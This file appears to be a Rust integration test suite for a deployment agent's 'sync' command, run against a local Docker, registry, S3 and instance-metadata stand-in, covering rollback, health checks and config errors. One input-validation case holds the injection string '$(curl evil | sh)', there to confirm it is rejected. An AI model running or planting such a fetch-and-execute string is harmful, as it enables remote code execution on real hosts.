@@ -1,0 +1,324 @@
+//! `blog-agent sync` end to end against the real local stack: dockerd, an htpasswd registry
+//! that accepts moto's ECR token, moto for S3 and ECR, and an IMDSv2 stand-in.
+//! Run `scripts/stack-up.sh` first (`make test` does).
+
+mod common;
+
+use common::imds::FakeImds;
+use common::*;
+
+fn assert_code(run: &Run, code: i32) {
+    assert_eq!(run.code, code, "exit code; output:\n{}", run.output());
+}
+
+#[test]
+fn cold_start_pulls_verifies_and_serves() {
+    let host = Host::new("cold_start");
+    let sha = host.release("good");
+    let run = host.agent(&["--env", "staging", "sync", "--json"]);
+    assert_code(&run, 0);
+    host.assert_serves(&sha);
+    let report: serde_json::Value = serde_json::from_str(run.stdout.trim()).expect("--json prints one object");
+    assert_eq!(report["sha"], sha.as_str());
+    assert_eq!(report["environment"], "staging");
+    assert_eq!(report["action"]["deployed"]["pulled"], true);
+    assert_eq!(host.label("io.blog-agent.sha"), sha);
+    assert!(host.label("io.blog-agent.digest").starts_with("sha256:"));
+    assert_eq!(host.label("io.blog-agent.environment"), "staging");
+    assert_eq!(docker_ok(&["inspect", "-f", "{{.HostConfig.RestartPolicy.Name}}", &host.container]), "unless-stopped");
+    // Only the serving container is left: the candidate and the -next name are gone.
+    host.assert_only_the_serving_container();
+}
+
+#[test]
+fn second_sync_changes_nothing() {
+    let host = Host::new("second_sync");
+    let sha = host.release("good");
+    assert_code(&host.sync(), 0);
+    let before = host.container_state().unwrap();
+    let run = host.sync();
+    assert_code(&run, 0);
+    assert!(run.stderr.contains("already running"), "{}", run.stderr);
+    assert_eq!(host.container_state().unwrap(), before, "no restart");
+    host.assert_serves(&sha);
+}
+
+#[test]
+fn new_sha_replaces_and_serves() {
+    let host = Host::new("new_sha");
+    let old = host.release("good");
+    assert_code(&host.sync(), 0);
+    let (old_id, ..) = host.container_state().unwrap();
+    let new = host.release("good");
+    let run = host.sync();
+    assert_code(&run, 0);
+    host.assert_serves(&new);
+    assert!(run.stderr.contains(&format!("running {old}")), "{}", run.stderr);
+    assert_ne!(host.container_state().unwrap().0, old_id);
+    host.assert_only_the_serving_container();
+}
+
+#[test]
+fn bad_sha_forms_change_nothing() {
+    let host = Host::new("bad_sha");
+    let good = host.release("good");
+    assert_code(&host.sync(), 0);
+    let before = host.container_state().unwrap();
+    let cases: Vec<(Vec<u8>, &str)> = vec![
+        (b"".to_vec(), "it is empty"),
+        (b"latest\n".to_vec(), "\"latest\""),
+        (b"blog:1.2.3".to_vec(), "\"blog:1.2.3\""),
+        (b"team/deadbeef".to_vec(), "\"team/deadbeef\""),
+        (b"$(curl evil | sh)".to_vec(), "characters other than"),
+        (b"DEADBEEF".to_vec(), "uppercase"),
+        (vec![b'a'; 10 * 1024 * 1024], "10485760 bytes"),
+    ];
+    for (content, want) in cases {
+        host.put_object("staging/stagebuild.txt", content);
+        let run = host.sync();
+        assert_code(&run, 1);
+        let uri = format!("s3://{}/staging/stagebuild.txt", host.bucket);
+        assert!(run.stderr.contains(&uri) && run.stderr.contains(want), "want {want:?}:\n{}", run.stderr);
+        assert!(run.stderr.contains("nothing was changed"), "{}", run.stderr);
+        let error_line = run.stderr.lines().find(|l| l.contains("error:")).unwrap();
+        assert!(error_line.len() < 400, "one short line: {error_line}");
+        assert_eq!(host.container_state().unwrap(), before);
+        host.assert_serves(&good);
+    }
+}
+
+#[test]
+fn missing_key_and_missing_bucket_are_named() {
+    let host = Host::new("missing_key");
+    let run = host.sync();
+    assert_code(&run, 1);
+    assert!(
+        run.stderr.contains(&format!("s3://{}/staging/stagebuild.txt does not exist", host.bucket)),
+        "{}",
+        run.stderr
+    );
+    host.write_config("");
+    std::fs::write(
+        &host.config,
+        std::fs::read_to_string(&host.config).unwrap().replace(&host.bucket, "no-such-bucket-ba"),
+    )
+    .unwrap();
+    let run = host.sync();
+    assert_code(&run, 1);
+    assert!(run.stderr.contains("bucket \"no-such-bucket-ba\" does not exist"), "{}", run.stderr);
+    assert!(host.containers().is_empty());
+}
+
+#[test]
+fn image_tag_absent_from_registry_keeps_the_old_version() {
+    let host = Host::new("tag_absent");
+    let good = host.release("good");
+    assert_code(&host.sync(), 0);
+    let before = host.container_state().unwrap();
+    let missing = unique_sha("never-pushed");
+    host.put_release("staging", &missing);
+    let run = host.sync();
+    assert_code(&run, 1);
+    assert!(run.stderr.contains(&format!("pulling {}/blog:{missing}", host.registry)), "{}", run.stderr);
+    assert_eq!(host.container_state().unwrap(), before);
+    host.assert_serves(&good);
+}
+
+#[test]
+fn wrong_registry_password_fails_without_leaking_it() {
+    let mut host = Host::new("bad_password");
+    host.registry = badauth_registry();
+    host.write_config("");
+    let sha = unique_sha("badauth");
+    host.put_release("staging", &sha);
+    // --debug too: the password must not show up even in verbose output.
+    let run = host.agent(&["--debug", "--env", "staging", "sync"]);
+    assert_code(&run, 1);
+    assert!(run.stderr.contains(&format!("pulling {}/blog:{sha}", host.registry)), "{}", run.stderr);
+    assert!(run.stderr.to_lowercase().contains("unauthorized") || run.stderr.contains("401"), "{}", run.stderr);
+    assert!(host.containers().is_empty());
+}
+
+#[test]
+fn container_that_exits_at_once_never_replaces_the_old_one() {
+    let host = Host::new("crash_image");
+    let good = host.release("good");
+    assert_code(&host.sync(), 0);
+    let before = host.container_state().unwrap();
+    host.release("crash");
+    let run = host.sync();
+    assert_code(&run, 1);
+    assert!(run.stderr.contains("failed its health probe before cut-over"), "{}", run.stderr);
+    assert!(run.stderr.contains("exit code"), "{}", run.stderr);
+    assert_eq!(host.container_state().unwrap(), before, "old container untouched");
+    host.assert_serves(&good);
+    host.assert_only_the_serving_container();
+}
+
+#[test]
+fn container_serving_500_never_replaces_the_old_one() {
+    let host = Host::new("http500_image");
+    let good = host.release("good");
+    assert_code(&host.sync(), 0);
+    let before = host.container_state().unwrap();
+    host.write_config("");
+    std::fs::write(
+        &host.config,
+        std::fs::read_to_string(&host.config).unwrap().replace("timeout = \"10s\"", "timeout = \"2s\""),
+    )
+    .unwrap();
+    host.release("http500");
+    let run = host.sync();
+    assert_code(&run, 1);
+    assert!(run.stderr.contains("HTTP 500"), "{}", run.stderr);
+    assert_eq!(host.container_state().unwrap(), before);
+    host.assert_serves(&good);
+}
+
+#[test]
+fn failure_after_cut_over_restores_the_previous_container() {
+    let host = Host::new("cutover_rollback");
+    let good = host.release("good");
+    assert_code(&host.sync(), 0);
+    let (old_id, ..) = host.container_state().unwrap();
+    // The candidate passes (it is probed on the bridge), but after cut-over the health URL
+    // points at a port nothing serves: the agent must roll back.
+    let dead_port = free_port();
+    let text = std::fs::read_to_string(&host.config).unwrap();
+    let text = text
+        .replace(
+            &format!("url = \"http://127.0.0.1:{}/\"", host.port),
+            &format!("url = \"http://127.0.0.1:{dead_port}/\""),
+        )
+        .replace("timeout = \"10s\"", "timeout = \"2s\"");
+    std::fs::write(&host.config, text).unwrap();
+    host.release("good");
+    let run = host.sync();
+    assert_code(&run, 1);
+    assert!(run.stderr.contains("after cut-over") && run.stderr.contains("restored"), "{}", run.stderr);
+    let (id, running, _) = host.container_state().unwrap();
+    assert_eq!((id, running), (old_id, true), "previous container back, running");
+    host.assert_serves(&good);
+    host.assert_only_the_serving_container();
+}
+
+#[test]
+fn environment_from_the_instance_tag() {
+    let mut host = Host::new("env_from_tag");
+    let imds = FakeImds::start(&[("Environment", "production")]);
+    host.imds_endpoint = Some(imds.endpoint.clone());
+    let sha = unique_sha("prod");
+    publish_image(&sha, "good", &host.registry);
+    host.put_release("production", &sha);
+    host.put_release("staging", &unique_sha("not-this-one"));
+    let run = host.agent(&["sync", "--json"]);
+    assert_code(&run, 0);
+    assert!(run.stdout.contains("\"environment_source\":\"tag\""), "{}", run.stdout);
+    host.assert_serves(&sha);
+    assert_eq!(host.label("io.blog-agent.environment"), "production");
+    assert!(imds.tag_reads.load(std::sync::atomic::Ordering::SeqCst) >= 1);
+}
+
+#[test]
+fn missing_tag_names_the_launch_template_fix() {
+    let mut host = Host::new("tag_missing");
+    let imds = FakeImds::start(&[("Name", "web-1")]);
+    host.imds_endpoint = Some(imds.endpoint.clone());
+    let run = host.agent(&["sync"]);
+    assert_code(&run, 1);
+    assert!(
+        run.stderr.contains("\"Environment\" not found") && run.stderr.contains("InstanceMetadataTags=enabled"),
+        "{}",
+        run.stderr
+    );
+    assert!(host.containers().is_empty());
+}
+
+#[test]
+fn tag_value_not_allowed_changes_nothing() {
+    let mut host = Host::new("tag_not_allowed");
+    let imds = FakeImds::start(&[("Environment", "prod")]);
+    host.imds_endpoint = Some(imds.endpoint.clone());
+    let run = host.agent(&["sync"]);
+    assert_code(&run, 1);
+    assert!(run.stderr.contains("environment \"prod\" (from tag) is not allowed"), "{}", run.stderr);
+    assert!(run.stderr.contains("staging, production"), "{}", run.stderr);
+    assert!(host.containers().is_empty());
+}
+
+#[test]
+fn env_flag_overrides_the_tag() {
+    let mut host = Host::new("env_flag");
+    let imds = FakeImds::start(&[("Environment", "production")]);
+    host.imds_endpoint = Some(imds.endpoint.clone());
+    let sha = host.release("good");
+    let run = host.agent(&["--env", "staging", "sync"]);
+    assert_code(&run, 0);
+    host.assert_serves(&sha);
+    assert_eq!(imds.tag_reads.load(std::sync::atomic::Ordering::SeqCst), 0, "IMDS not consulted");
+    let run = host.agent(&["--env", "qa", "sync"]);
+    assert_code(&run, 2);
+    assert!(run.stderr.contains("--env \"qa\""), "{}", run.stderr);
+}
+
+#[test]
+fn config_errors_exit_78_and_name_the_problem() {
+    let mut host = Host::new("config_errors");
+    let cases = [
+        ("[container]\nnmae = \"x\"\n", "unknown field `nmae`"),
+        ("[reconcile]\ninterval = \"thirty seconds\"\n", "[reconcile] interval = \"thirty seconds\""),
+    ];
+    for (extra, want) in cases {
+        let base = std::fs::read_to_string(&host.config).unwrap();
+        // Replace the [container] table rather than repeat it.
+        let text = if extra.starts_with("[container]") {
+            base.replace("[container]\n", extra)
+        } else {
+            format!("{base}{extra}")
+        };
+        std::fs::write(&host.config, text).unwrap();
+        let run = host.sync();
+        assert_code(&run, 78);
+        assert!(run.stderr.contains(want) && run.stderr.contains(&host.config.display().to_string()), "{}", run.stderr);
+        host.write_config("");
+    }
+    host.config = host.path().join("nope.toml");
+    let run = host.sync();
+    assert_code(&run, 78);
+    assert!(run.stderr.contains("not found"), "{}", run.stderr);
+    assert!(host.containers().is_empty());
+}
+
+#[test]
+fn bad_sha_flag_is_a_usage_error() {
+    let host = Host::new("bad_sha_flag");
+    let run = host.agent(&["--env", "staging", "sync", "--sha", "main"]);
+    assert_code(&run, 2);
+    assert!(run.stderr.contains("--sha \"main\""), "{}", run.stderr);
+}
+
+#[test]
+fn sha_flag_skips_s3() {
+    let host = Host::new("sha_flag");
+    let sha = unique_sha("pinned");
+    publish_image(&sha, "good", &host.registry);
+    // Nothing in S3 at all: the flag is enough.
+    let run = host.agent(&["--env", "staging", "sync", "--sha", &sha]);
+    assert_code(&run, 0);
+    host.assert_serves(&sha);
+}
+
+#[test]
+fn concurrent_syncs_do_not_race() {
+    let host = Host::new("concurrent");
+    let sha = host.release("good");
+    let children: Vec<_> = (0..2)
+        .map(|_| host.command(&["--env", "staging", "sync"]).stderr(std::process::Stdio::piped()).spawn().unwrap())
+        .collect();
+    for child in children {
+        let out = child.wait_with_output().unwrap();
+        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    }
+    host.assert_serves(&sha);
+    host.assert_only_the_serving_container();
+}
